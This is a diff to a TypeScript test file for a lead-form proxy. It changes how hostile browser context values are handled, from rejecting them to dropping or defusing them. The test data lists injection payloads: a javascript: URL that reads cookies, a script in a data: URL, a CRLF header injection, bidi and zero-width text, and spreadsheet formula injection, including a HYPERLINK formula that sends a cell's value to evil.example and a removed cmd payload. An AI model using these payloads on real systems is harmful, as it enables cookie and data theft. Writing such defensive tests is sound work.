@@ -4,7 +4,8 @@ import { listOutbox } from '../testing/outbox-cli.ts';
 import { TRIAL_FORMS_FILE } from '../testing/trial-forms-file.ts';
 
 // The submission's `context` obeys the text rules and the URL and formula rules before anything
-// reaches Gleantap; a bad value is a bad body (400 invalid_body), since context is not a field.
+// reaches Gleantap. Context is what the browser collected, not what the visitor typed: a value
+// that breaks a rule is dropped (a formula-like UTM value defused), and the lead is kept.
 
 const CONTEXT_FORMS_FILE = {
   ...TRIAL_FORMS_FILE,
@@ -31,28 +32,41 @@ describe('submission context', () => {
   const submit = (context: Record<string, unknown>) =>
     post(harness.proxy.url, { id: crypto.randomUUID(), fields: { first_name: 'Ada', last_name: 'Lovelace', email: 'ada@example.com' }, consent: { sms: { granted: true, version: smsVersion } }, context }, { formId: 'trial' });
 
-  it('refuses hostile values with 400 invalid_body, and nothing reaches Gleantap', async () => {
+  it('keeps the lead and drops what breaks the rules: hostile URLs, controls, bidi, lone surrogates, invisible text, bad locales', async () => {
     const hostile: Array<Record<string, string>> = [
       { page_url: 'javascript:alert(document.cookie)' },
       { referrer: 'data:text/html,<script>alert(1)</script>' },
+      { referrer: 'android-app://com.google.android.gm/' },
       { utm_source: 'news\r\nX-Injected: 1' },
       { utm_medium: 'a\u0000b' },
       { utm_campaign: 'evil\u202Etxt.exe' },
       { utm_term: 'half\uD800' },
       { utm_content: 'zero\u200Bwidth' },
-      { utm_source: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
-      { utm_campaign: '+1+cmd|\' /C calc\'!A0' },
-      { utm_term: '@SUM(1+1)' },
-      { utm_content: '-2+3' },
       { locale: 'en'.repeat(1024) },
       { locale: 'en<script>' },
     ];
     for (const context of hostile) {
       const response = await submit(context);
-      expect(response.status, JSON.stringify(context)).toBe(400);
-      expect(((await response.json()) as { error: { code: string } }).error.code, JSON.stringify(context)).toBe('invalid_body');
+      expect(response.status, JSON.stringify(context)).toBe(201);
     }
-    expect(await harness.calls()).toEqual([]);
+    const contacts = await harness.contacts();
+    expect(contacts).toHaveLength(1); // the same visitor each time: Gleantap updated one contact
+    for (const attribute of ['signup_page', 'came_from', 'utm_source', 'utm_campaign', 'signup_locale', 'sms_consent_page']) {
+      expect(contacts[0], attribute).not.toHaveProperty(attribute);
+    }
+    const sent = (await harness.calls()).flatMap((call) => Object.values(call.body as Record<string, unknown>)).filter((value) => typeof value === 'string').join('\n');
+    for (const fragment of ['javascript:', 'data:text', 'android-app', 'X-Injected', '\u0000', '\u202E', '\uD800', '\u200B', '<script>', 'enen']) {
+      expect(sent, JSON.stringify(fragment)).not.toContain(fragment);
+    }
+  });
+
+  it('defuses UTM values that a spreadsheet would run as a formula, keeping the campaign', async () => {
+    for (const [key, value] of [['utm_source', '=HYPERLINK("https://evil.example/?"&A1,"Click")'], ['utm_campaign', '-20% off']] as const) {
+      const response = await submit({ [key]: value });
+      expect(response.status, value).toBe(201);
+      const [contact] = await harness.contacts();
+      expect(contact, value).toMatchObject({ [key]: `'${value}` });
+    }
   });
 
   it('sends page and referrer URLs without fragment and with only utm_* query parameters, and text values normalised', async () => {
